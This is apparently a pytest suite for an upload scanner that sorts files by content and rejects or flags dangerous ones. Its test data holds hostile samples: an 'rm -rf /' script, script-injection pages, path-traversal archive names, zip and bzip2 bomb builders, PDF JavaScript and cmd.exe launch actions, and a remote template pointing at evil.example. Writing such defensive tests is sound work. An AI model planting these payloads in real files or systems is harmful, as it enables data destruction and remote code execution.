"""What a document is, is told by what it holds; what could do harm waits for somebody, or is not taken."""

import random
import struct
import time
import tracemalloc
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from goldenthread.engine.attached import DocumentKind as Kind
from goldenthread.http.uploads import archives, pdfs
from goldenthread.http.uploads.kinds import MEDIA_TYPES, NotTaken
from goldenthread.http.uploads.looking import look_at
from tests.http.uploads import papers

NOISE = random.Random(1)  # noqa: S311  # the same each time
TAKEN = {
    "pdf": (papers.pdf(), Kind.PDF),
    "pdf, packed": (papers.pdf(papers.packed(b"1 0 << /Type /Page >>")), Kind.PDF),
    "word": (papers.office("docx"), Kind.DOCX),
    "excel": (papers.office("xlsx"), Kind.XLSX),
    "powerpoint": (papers.office("pptx"), Kind.PPTX),
    "opendocument": (papers.odt(), Kind.ODT),
    "text": (papers.TEXT, Kind.TEXT),
    "text with its mark": (b"\xef\xbb\xbf" + papers.TEXT, Kind.TEXT),
    "text of one letter": (b"x", Kind.TEXT),
    "png": (papers.png(), Kind.PNG),
    "jpeg": (papers.jpeg(), Kind.JPEG),
    "jpeg with a second picture after it": (papers.jpeg(after=papers.jpeg()), Kind.JPEG),
    "heic": (papers.photograph(), Kind.HEIC),
    "mp3": (papers.mp3(), Kind.MP3),
    "mp3 with its title": (papers.mp3(b"TIT2 a song" + b"\0" * 20), Kind.MP3),
    "m4a": (papers.sound(), Kind.M4A),
    "mp4": (papers.sound(b"isom"), Kind.MP4),
}


@pytest.mark.parametrize(("content", "kind"), TAKEN.values(), ids=TAKEN)
def test_a_document_is_told_by_what_it_holds(content: bytes, kind: Kind) -> None:
    found = look_at(content)
    assert (found.kind, found.doubts) == (kind, ())


def test_every_kind_is_told_and_served() -> None:
    assert {kind for _, kind in TAKEN.values()} == set(Kind) == set(MEDIA_TYPES)


def locked() -> bytes:
    """Return a document whose list says that its parts are locked."""
    content = bytearray(papers.office())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = content.find(mark) + at
        content[where] |= 1
    return bytes(content)


def lying() -> bytes:
    """Return a document that says of a part that it is small, where it is not."""
    content = bytearray(papers.office(word__media__a_xml=b"0" * 60_000_000))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(content)


def lying_and_packed_otherwise(size: int) -> bytes:
    """Return a bzip2 bomb: one part that says of itself that it is small, and unpacks to ``size``."""
    content = bytearray(papers.archive({papers.CONTENT_TYPES: b"0" * size}, zipfile.ZIP_BZIP2))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def outside(name: str) -> bytes:
    return papers.archive({papers.CONTENT_TYPES: "x", name: "x"})


NOT_TAKEN = {
    "nothing": (b"", "empty"),
    "a program": (b"MZ\x90\x00" + b"\0" * 200, "is not taken in"),
    "a program of Linux": (b"\x7fELF" + b"\0" * 200, "is not taken in"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "is not taken in"),
    "a page": (b"  <!DOCTYPE html><script>alert(1)</script>", "is not taken in"),
    "a page that begins otherwise": (b"\xef\xbb\xbf<html>", "is not taken in"),
    "a drawing that may run": (b'<?xml version="1.0"?><svg onload="x()"/>', "is not taken in"),
    "rich text": (b"{\\rtf1 x}", "is not taken in"),
    "text that is not UTF-8": ("Ein Gespräch".encode("latin-1"), "is not taken in"),
    "text with a NUL": (b"a\0b", "is not taken in"),
    "an old Office document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "without a password"),
    "an archive": (papers.archive({"a.txt": "x"}), "This is an archive"),
    "a rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 60, "is not taken in"),
    "a pdf after something else": (b"hello\n" + papers.pdf(), "two files in one"),
    "a pdf with something after it": (papers.pdf(end=b"%%EOF\nmore and more"), "stands after its end"),
    "a pdf that is an archive too": (papers.pdf() + papers.office() + b"%%EOF", "two files in one"),
    "a pdf that is cut short": (papers.pdf()[:-10], "cut short"),
    "a picture that is an archive too": (papers.jpeg() + papers.office(), "two files in one"),
    "a picture that is a pdf too": (papers.jpeg(inside=papers.pdf()), "two files in one"),
    "a picture that is a page too": (papers.jpeg(inside=b"<script>x()</script>"), "two files in one"),
    "a picture with something after it": (papers.png(after=b"more"), "stands after its end"),
    "a picture that is cut short": (papers.png()[:-6], "stands after its end"),
    "a document that is a picture too": (papers.png() + papers.office(), "stands after its end"),
    "a document with something after it": (papers.office() + b"more", "after the end"),
    "a document before a document": (papers.office() + papers.office(), "two files in one"),
    "a film with something after it": (papers.sound(b"isom") + b"PK\x03\x04....", "stands after its end"),
    "a film that is cut short": (papers.sound(b"isom")[:-4], "stands after its end"),
    "a film without a film": (papers.iso(b"isom", papers.box(b"free")), "not known here"),
    "a film of another kind": (papers.sound(b"qt  "), "not known here"),
    "macros": (papers.office(word__vbaProject_bin=b"x"), "macros"),
    "macros under another name": (
        papers.archive({papers.CONTENT_TYPES: "ms-word.document.macroEnabled.main+xml"}), "macros",
    ),
    "macros of OpenDocument": (papers.odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "a program within": (papers.office(word__media__a_png=b"MZ\x90\x00"), "a program"),
    "an archive within": (papers.office(word__media__a_png=papers.archive({"a": "b"})), "an archive within"),
    "an archive within, by its name": (papers.office(word__a_rar=b"x"), "an archive within"),
    "entities": (papers.office(word__a_xml=b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x/>'), "not written as such"),
    "entities in other letters": (papers.office(word__a_xml='<!ENTITY a "a">'.encode("utf-16")), "not written as such"),
    "a part above": (outside("../../etc/cron.d/x"), "outside of it"),
    "a part at the root": (outside("/etc/passwd"), "outside of it"),
    "a part on a drive": (outside("C:x"), "outside of it"),
    "a part by a backslash": (outside("..\\x"), "outside of it"),
    "a password": (locked(), "locked with a password"),
    "a bomb": (papers.office(word__media__a_xml=b"0" * 60_000_000), "more than any paper"),
    "a bomb that lies": (lying(), "damaged|more than any paper"),
    "too many parts": (papers.archive({f"{n}": "" for n in range(4_001)}), "more than 4,000 parts"),
    "one name twice": (papers.archive({papers.CONTENT_TYPES: "x", "Word/a.xml": "1", "word/A.xml": "2"}), "one name"),
    "another way of packing": (
        papers.archive({papers.CONTENT_TYPES: "x" * 50}, zipfile.ZIP_BZIP2), "packed in a way that is not used",
    ),
    "yet another way of packing": (
        papers.archive({papers.CONTENT_TYPES: "x" * 50}, zipfile.ZIP_LZMA), "packed in a way that is not used",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("content", "why"), NOT_TAKEN.values(), ids=NOT_TAKEN)
def test_what_could_do_harm_is_not_taken_and_it_is_said_why(content: bytes, why: str) -> None:
    with pytest.raises(NotTaken, match=why):
        look_at(content)


def test_a_bomb_that_would_unpack_at_once_is_never_unpacked() -> None:
    """bzip2 and LZMA unpack a whole read before anything can be counted: 45 bytes here are a megabyte there."""
    bomb = lying_and_packed_otherwise(20_000_000)
    assert len(bomb) < 1_000
    tracemalloc.start()
    try:
        with pytest.raises(NotTaken, match="packed in a way that is not used"):
            look_at(bomb)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 2_000_000


def relations(said: str) -> bytes:
    return f"<Relationships>{said}</Relationships>".encode()


TEMPLATE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
LINK = '<Relationship Type="http://x/hyperlink" Target="https://www.gov.uk" TargetMode="External"/>'
DOUBTFUL = {
    "a program": (papers.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>\n"), "it holds a program"),
    "a program, written otherwise": (papers.pdf(b"<< /S /J#61va#53cript >>\n"), "it holds a program"),
    "a program, packed away": (papers.pdf(papers.packed(b"7 0 << /S /JavaScript >>")), "it holds a program"),
    "a program, packed away and written otherwise": (
        papers.pdf(papers.packed(b"7 0 << /S /J#61vaScript >>").replace(b"/ObjStm", b"/Obj#53tm")),
        "it holds a program",
    ),
    "another program": (papers.pdf(b"<< /S /Launch /F (cmd.exe) >>\n"), "it starts other programs"),
    "another file": (papers.pdf(b"<< /Names << /EmbeddedFiles 9 0 R >> >>\n"), "it holds another file"),
    "a form with a program": (papers.pdf(b"<< /AcroForm << /XFA 9 0 R >> >>\n"), "it holds a form with a program"),
    "locked": (papers.pdf(b"<< /Encrypt 9 0 R >>\n"), "it is locked"),
    "packed in another way": (papers.pdf(papers.packed(b"", b"/Filter /LZWDecode")), "cannot be looked into"),
    "packed twice": (
        papers.pdf(papers.packed(b"", b"/Filter [/ASCIIHexDecode /FlateDecode]")), "cannot be looked into",
    ),
    "packed wrongly": (papers.pdf(papers.packed(b"", body=b"not packed")), "cannot be looked into"),
    "a sheet within": (papers.office(word__embeddings__a_xlsx=papers.office("xlsx")), "it holds another document"),
    "an object within": (papers.office(word__embeddings__a_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "another program"),
    "moving parts": (papers.office(word__activeX__a_xml="<x/>"), "moving parts"),
    "something from elsewhere": (papers.office(word___rels__a_rels=relations(TEMPLATE)), "fetches something"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "why"), DOUBTFUL.values(), ids=DOUBTFUL)
def test_what_acts_by_itself_waits_for_somebody(content: bytes, why: str) -> None:
    doubts = look_at(content).doubts
    assert any(why in one for one in doubts), doubts


PROGRAM = b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"
HIDDEN = {
    "after a word of its own": papers.packed(PROGRAM, b"/Filter /FlateDecode /X (obj)"),
    "after an object of its own": papers.packed(PROGRAM, b"/Filter /FlateDecode /X (endobj 9 0 obj << >> stream\n)"),
    "after a bracket": papers.packed(PROGRAM, rb"/Filter /FlateDecode /X (\) >> stream\()"),
    "after a long stretch of nothing": papers.packed(PROGRAM, b"/Filter /FlateDecode" + b" " * 9_000),
    "after a remark": papers.packed(PROGRAM).replace(b">>\nstream", b">> % more\nstream"),
    "after a remark within": papers.packed(PROGRAM, b"% >> endobj 9 0 obj << /X\n/Filter /FlateDecode"),
    "after letters": papers.packed(PROGRAM, b"/Filter /FlateDecode /X <41>"),
    "without its name": papers.packed(PROGRAM).replace(b"/Type /ObjStm", b""),
    "with another end of a line": papers.packed(PROGRAM).replace(b"stream\n", b"stream\r", 1),
    "as a picture is": papers.packed(PROGRAM, b"/Filter /FlateDecode /DP << /Pre#64ictor 12 >>"),
    "in two ways": papers.packed(PROGRAM, b"/Filter 9 0 R /X /FlateDecode", b"not as it says"),
    "without an end": papers.packed(PROGRAM, b"/Filter /FlateDecode /X (("),
}


@pytest.mark.parametrize("part", HIDDEN.values(), ids=HIDDEN)
def test_a_program_cannot_hide_in_what_is_said_of_its_part(part: bytes) -> None:
    doubts = look_at(papers.pdf(part)).doubts
    assert {"it holds a program", "a part of it cannot be looked into"} & set(doubts), doubts


DISGUISED = {
    "in other letters": TEMPLATE.replace('"External"', '"&#69;xternal"'),
    "after a bracket": TEMPLATE.replace("<Relationship ", '<Relationship Id="a>b" '),
    "as a link, elsewhere": TEMPLATE.replace("/>", ' FooType="http://x/hyperlink"/>'),
    "after a remark": f"<!-- {LINK} -->{TEMPLATE}",
    "under another name": TEMPLATE.replace("<Relationship ", '<r:Relationship xmlns:r="http://x" '),
}


@pytest.mark.parametrize("said", DISGUISED.values(), ids=DISGUISED)
def test_what_is_fetched_is_told_however_it_is_written(said: str) -> None:
    doubts = look_at(papers.office(word___rels__a_rels=relations(said))).doubts
    assert doubts == ("it fetches something from elsewhere when it is opened",)


@pytest.mark.parametrize("said", [b"<Relationships>", b"<?xml version='1.0' encoding='utf-7'?><a/>", b""])
def test_what_cannot_be_read_of_what_is_fetched_is_not_taken(said: bytes) -> None:
    with pytest.raises(NotTaken, match="not written as such"):
        look_at(papers.office(word___rels__a_rels=said))


def test_a_link_in_a_letter_is_no_doubt() -> None:
    assert look_at(papers.office(word___rels__a_rels=relations(LINK))).doubts == ()


def test_a_word_that_sounds_like_it_is_no_doubt() -> None:
    assert look_at(papers.pdf(b"<< /JavaScripty 1 /Launchpad 2 /Title (Launch) >>\n")).doubts == ()


def test_a_pdf_that_unpacks_without_end_is_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "MOST_UNPACKED", 1_000_000)
    with pytest.raises(NotTaken, match="more than any paper"):
        look_at(papers.pdf(papers.packed(b"0" * 5_000_000)))


def test_what_is_unpacked_is_counted_and_not_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MOST_UNPACKED", 100_000)
    with pytest.raises(NotTaken, match="more than any paper"):
        look_at(papers.office(word__a_xml=NOISE.randbytes(200_000)))


@pytest.mark.parametrize(
    "content",
    [
        papers.pdf(b"<<" * 5_000_000),
        papers.pdf(b">>stream\n" * 1_000_000),
        papers.pdf(b"/ObjStm " * 1_000_000),
        papers.pdf(b"#61" * 3_000_000),
        papers.pdf(b"obj<<" * 3_000_000),
        papers.pdf(b"obj%" * 4_000_000 + b"\nx\n"),
        papers.pdf(b"obj<<>>%" * 2_000_000 + b"\nx\n"),
        papers.pdf(b"obj<<" * 1_000 + b" " * 15_000_000 + b">>" * 1_000),
        papers.pdf(b"1 0 obj<<" + b"(" * 15_000_000),
        papers.pdf(b"obj<<(" * 2_000_000),
        b"%PDF-1.7\n" + NOISE.randbytes(15_000_000) + b"\n%%EOF",
        b"PK\x03\x04" * 4_000_000,
        b"\xff\xfb\x90\x00" * 4_000_000,
        papers.box(b"ftyp", b"isom") + papers.box(b"free") * 1_500_000,
        b"\t\n " * 6_000_000,
    ],
    ids=[
        "<<",
        "streams",
        "lists",
        "escapes",
        "nested",
        "remarks",
        "remarks after",
        "blanks within",
        "strings",
        "objects with strings",
        "noise",
        "archives",
        "frames",
        "boxes",
        "blanks",
    ],
)
def test_nothing_takes_long_to_look_at(content: bytes) -> None:
    began = time.process_time()
    try:
        look_at(content)
    except NotTaken as why:
        assert str(why)  # noqa: PT017  # taken or not, it says so in time
    assert time.process_time() - began < 10


@settings(max_examples=300, deadline=None)
@given(st.sampled_from([content for content, _ in TAKEN.values()]), st.data())
def test_whatever_is_damaged_is_told_or_not_taken(content: bytes, data: st.DataObject) -> None:
    changed = bytearray(content)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(changed) - 1))
        changed[at] = data.draw(st.integers(0, 255))
    cut = bytes(changed[: data.draw(st.integers(0, len(changed)))])
    for one in (bytes(changed), cut):
        try:
            assert look_at(one).kind in Kind
        except NotTaken as why:
            assert str(why)  # noqa: PT017  # and nothing else is raised
